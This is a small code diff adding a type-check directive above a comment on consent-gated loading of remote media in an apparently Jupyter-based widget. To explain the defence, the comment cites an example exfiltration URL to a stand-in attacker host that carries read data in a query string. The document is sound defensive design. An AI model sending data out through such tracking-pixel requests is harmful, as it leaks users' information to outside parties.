@@ -1,3 +1,4 @@
+// @ts-check
 // Remote content by consent. An image, audio or video whose URL is http(s) loads only once the user clicks Load on
 // its placeholder, unless its origin is one of the widget's `trusted_origins`: a request to a URL an agent chose
 // can carry data out (https://attacker.example/pixel?q=<what it read>) or reach the Jupyter server's own API.
